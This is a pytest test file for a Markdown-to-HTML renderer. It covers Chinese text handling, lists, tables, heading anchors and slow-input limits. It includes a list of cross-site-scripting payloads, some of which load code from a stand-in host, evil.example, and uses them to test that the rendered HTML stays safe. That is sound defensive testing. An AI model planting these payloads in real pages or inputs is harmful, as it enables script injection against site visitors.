"""Texts out of records: what they become, and that nothing in them ever runs or takes long."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from perfsite.render.markdown import LONGEST, Markdown, Slugs, is_affordable
from tests.ending import soon

MARKDOWN = Markdown(table_label="表格")

# Ways to run script that public lists of payloads name, as authors could write them into a record.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](http://a.example "onmouseover=alert(1) x=")',
    '[x](http://a.example/" onmouseover="alert(1))',
    "[x](http://a.example/'onmouseover='alert(1))",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    '![" onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    '<http://a.example/" onmouseover="alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`</code><script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    '# " onmouseover="alert(1)',
    "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "\x02amp\x03#60;script\x02amp\x03#62;",
    "*<img src=x onerror=alert(1)>*",
    "**[x](javascript:alert(1))**",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "> <script>alert(1)</script>",
    "<div markdown=1><script>alert(1)</script></div>",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]

ALLOWED_TAGS = {
    *(
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "strong",
        "em",
        "code",
        "pre",
        "blockquote",
        "hr",
        "br",
    ),
    *("a", "table", "thead", "tbody", "tr", "th", "td", "div"),
}
ALLOWED_ATTRIBUTES = {"href", "title", "id", "class", "scope", "start", "role", "aria-label", "tabindex"}
ALLOWED_PREFIXES = ("http://", "https://", "mailto:")


class Judge(HTMLParser):
    """Reads HTML as a browser tokenises it and objects to whatever is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS, f"element {tag}"
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, f"attribute {name}"
            if name == "href":
                address = "".join(char for char in (value or "").lower() if char > " ")
                scheme = address.split("/")[0].split("?")[0].split("#")[0]
                assert address.startswith(ALLOWED_PREFIXES) or ":" not in scheme, f"address {value!r}"
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"instruction {data!r}")


def judge(html: str) -> None:
    reader = Judge()
    reader.feed(html)
    reader.close()
    assert reader.open == []


def block(text: str) -> str:
    return str(MARKDOWN.block(text))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "前{}后", "text\n\n{}\n\ntext", "- {}", "**{}**", "[{}](x)"])
def test_nothing_in_a_text_runs(payload: str, frame: str) -> None:
    text = frame.replace("{}", payload)
    judge(block(text))
    judge(str(MARKDOWN.inline(text)))


def test_raw_html_is_shown_as_text() -> None:
    assert block("<b>bold</b> & R&D") == "<p>&lt;b&gt;bold&lt;/b&gt; &amp; R&amp;D</p>"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**加粗，**中文", "<p><strong>加粗，</strong>中文</p>"),
        ("前**加粗。**后", "<p>前<strong>加粗。</strong>后</p>"),
        ("第一行，\n第二行", "<p>第一行，第二行</p>"),
        ("第一行\n第二行", "<p>第一行第二行</p>"),
        ("第一行\n**第二行**", "<p>第一行<strong>第二行</strong></p>"),
        ("**第一行**\n第二行", "<p><strong>第一行</strong>第二行</p>"),
        ("他说\n“好”", "<p>他说“好”</p>"),
        ("中文\nEnglish", "<p>中文\nEnglish</p>"),
        ("one\ntwo", "<p>one\ntwo</p>"),
        ("中文  \n换行", "<p>中文<br>\n换行</p>"),
        ("`中\n文`", "<p><code>中文</code></p>"),
        ("```\n中\n文\n```", "<pre><code>中\n文\n</code></pre>"),
    ],
)
def test_chinese_reads_without_the_editors_line_ends(text: str, html: str) -> None:
    assert block(text) == html


def test_lists_need_no_blank_line_and_no_four_spaces() -> None:
    nested = block("要求：\n- 一\n- 二\n  - 二之一\n    - 更深\n- 三")
    assert nested.replace("\n", "") == (
        "<p>要求：</p><ul><li>一</li><li>二<ul><li>二之一<ul><li>更深</li></ul></li></ul></li><li>三</li></ul>"
    )
    assert block("1. a\n   - b\n2. c").replace("\n", "") == "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"


def test_indentation_makes_no_code() -> None:
    assert block("　　中文段落\n\n    also a paragraph") == "<p>中文段落</p>\n<p>also a paragraph</p>"


def test_tables_stand_in_a_labelled_region() -> None:
    html = block("说明\n| 项目 | 金额 |\n|---|--:|\n| 甲 | 1 |")
    assert '<p>说明</p>\n<div class="table-scroll" role="group" aria-label="表格" tabindex="0"><table>' in html
    assert '<th scope="col">项目</th>\n<th scope="col" class="number">金额</th>' in html
    assert "<thead>" in html
    assert html.endswith("</table></div>")


def test_an_empty_heading_cell_is_no_heading() -> None:
    assert "<th" not in block("| |\n|---|\n| x |").replace("<thead", "")


def test_headings_start_where_asked_and_skip_no_level() -> None:
    html = str(MARKDOWN.block("# 甲\n\n#### 乙\n\n# 丙", level=3))
    assert html == '<h3 id="h-甲">甲</h3>\n<h4 id="h-乙">乙</h4>\n<h3 id="h-丙">丙</h3>'
    assert str(MARKDOWN.block("#### only", level=2)).startswith("<h2 ")
    assert "<h6" in str(MARKDOWN.block("# a\n\n## b\n\n### c", level=5))


def test_anchors_are_given_once_a_page_and_stay_the_same() -> None:
    slugs = Slugs()
    first = str(MARKDOWN.block("## 晋升标准\n\n## 晋升标准", slugs=slugs))
    second = str(MARKDOWN.block("## 晋升标准\n\n## How & why?", slugs=slugs))
    assert [part.split('"')[0] for part in (first + second).split('id="')[1:]] == [
        "h-晋升标准",
        "h-晋升标准-2",
        "h-晋升标准-3",
        "h-how-why",
    ]


@given(st.lists(st.text("ab-2 晋", max_size=6), max_size=12))
def test_anchors_never_meet(headings: list[str]) -> None:
    slugs = Slugs()
    given_out = [slugs.take(heading) for heading in headings]
    assert len(set(given_out)) == len(given_out)


def test_links_are_followed_through_the_site() -> None:
    markdown = Markdown({"rule/x": "../rules/x.html"}.get)  # type: ignore[arg-type]
    assert str(markdown.block("见[规则](rule/x)。")) == '<p>见<a href="../rules/x.html">规则</a>。</p>'
    assert str(markdown.block("见[规则](rule/x)。<")) == '<p>见<a href="../rules/x.html">规则</a>。&lt;</p>'
    assert str(markdown.inline("见[规则](rule/x)")) == '见<a href="../rules/x.html">规则</a>'


def test_where_the_library_would_eat_a_character_the_text_is_shown_as_it_is() -> None:
    assert block('[x](a" b="c(1))中文') == '<p>[x](a" b="c(1))中文</p>'
    assert str(MARKDOWN.inline("\\**粗**(*中文**粗**")) == "\\**粗**(*中文**粗**"


def test_a_refused_link_leaves_its_words() -> None:
    assert block("[点这里](javascript:alert(1))，谢谢") == "<p>点这里，谢谢</p>"


def test_a_picture_is_offered_as_a_link() -> None:
    assert block("![图](https://a.example/x.png)") == '<p><a href="https://a.example/x.png">图</a></p>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# 一、标题", "# 一、标题"),
        ("- 一\n- 二", "- 一 - 二"),
        ("1. 一", "1. 一"),
        ("a\n\nb", "a  b"),
        ("**粗**与`码`", "<strong>粗</strong>与<code>码</code>"),
        ("净销售额\n增长", "净销售额增长"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("", ""),
    ],
)
def test_a_line_has_no_blocks(text: str, html: str) -> None:
    assert str(MARKDOWN.inline(text)) == html


PIECES = st.sampled_from(
    ["中文", "word", "，", "。", "“引”", "**", "*", "_", "[", "]", "(", ")", "x", "rule/x", "https://a.b/c?d=e", "[见](rule/x)",
     "**粗**", "**粗，**", " ", "  ", "\n", "\n\n", "\n\n\n", "- ", "\n- ", "1. ", "\n1. ", "2. ", "# ", "\n\n## ", "#", "&",
     "&amp;", "R&D", "<", ">", "`", "|", "\\", "!", "~~~", "---", "===", ":", "+", "\u3000", "\xa0", "\t", "15%", "2026"]
)  # fmt: skip


@settings(max_examples=600, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_the_short_way_and_the_long_way_agree(text: str) -> None:
    simple = MARKDOWN._write_simple(text)
    if simple is not None:
        assert simple == MARKDOWN._write_any(text)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES | st.sampled_from(PAYLOADS), max_size=10).map("".join))
def test_any_text_is_safe_and_loses_no_word(text: str) -> None:
    for html in (block(text), str(MARKDOWN.inline(text))):
        judge(html)
        assert html.count("中文") >= text.count("中文")


HOSTILE = [
    "[",
    "<![",
    "![",
    "[a](",
    "[](",
    "](",
    "[[",
    "*",
    "**a",
    "_a",
    "`a``",
    "`",
    "<",
    "&",
    "\\",
    "> ",
    ">",
    "- ",
    "1. ",
    "#",
    "# a\n",
]
HOSTILE += [
    "```\n",
    "```a\n",
    "~~~\n",
    "|",
    "|a\n|-\n",
    "| a |\n|---|\n",
    "a|",
    "|-",
    "[a]: x\n",
    "\n",
    "\n\n[",
    "  - ",
    "<a@b.c>",
    "http://",
    "中\n",
]
HOSTILE += [
    "***a",
    "*a **b ",
    "_a_",
    "- a\n",
    " - a\n",
    "<http://a>",
    "\t",
    "    a\n\n",
    "=\n",
    "a\n=\n",
    "!",
    "\x02",
    "\xa0",
    '[a](b "',
    "[a](<b",
    "\\[",
]


@pytest.mark.parametrize("piece", HOSTILE)
@pytest.mark.parametrize("size", [6_000, LONGEST, 200_000])
def test_no_text_takes_long(piece: str, size: int) -> None:
    """A quadratic reading would take minutes."""
    text = piece * (size // len(piece))
    with soon():
        judge(block(text))
        MARKDOWN.inline(text)


@pytest.mark.parametrize("opening", ["> ", ">", "- ", "1. ", "> - "])
def test_deep_nesting_is_bounded(opening: str) -> None:
    judge(block(opening * 5_000 + "中文"))
    assert "中文" in block("\n".join("  " * depth + "- 中文" for depth in range(400)))


def test_a_text_that_is_too_long_is_shown_whole_as_paragraphs() -> None:
    text = "**一**段\n\n" * 10_000
    assert not is_affordable(text)
    html = block(text)
    assert html.count("<p>**一**段</p>") == 10_000


def test_everyday_texts_take_the_short_way() -> None:
    text = (
        "## 依据\n\n依据去年同期与在手订单测算，**净销售额**应达到1,150万元，\n见[评分规则](rule/regional-manager)。\n\n"
        "- 续约 60%\n- 新客户 14%\n\n1. 先看订单\n2. 再看回款\n\nThe order book covers 60% of it (R&D included)."
    )
    assert MARKDOWN._write_simple(text) is not None
